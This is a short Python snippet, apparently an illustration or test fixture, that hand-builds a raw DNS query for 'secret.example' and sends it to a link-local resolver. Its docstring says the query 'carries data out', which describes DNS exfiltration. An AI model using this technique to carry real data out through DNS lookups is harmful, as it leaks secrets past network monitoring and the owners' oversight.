"""A name server: what is asked carries data out."""

from __future__ import annotations

import socket


def reach() -> str:
    query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(5)
        client.sendto(query, ("169.254.169.253", 53))
        return client.recv(512).hex()
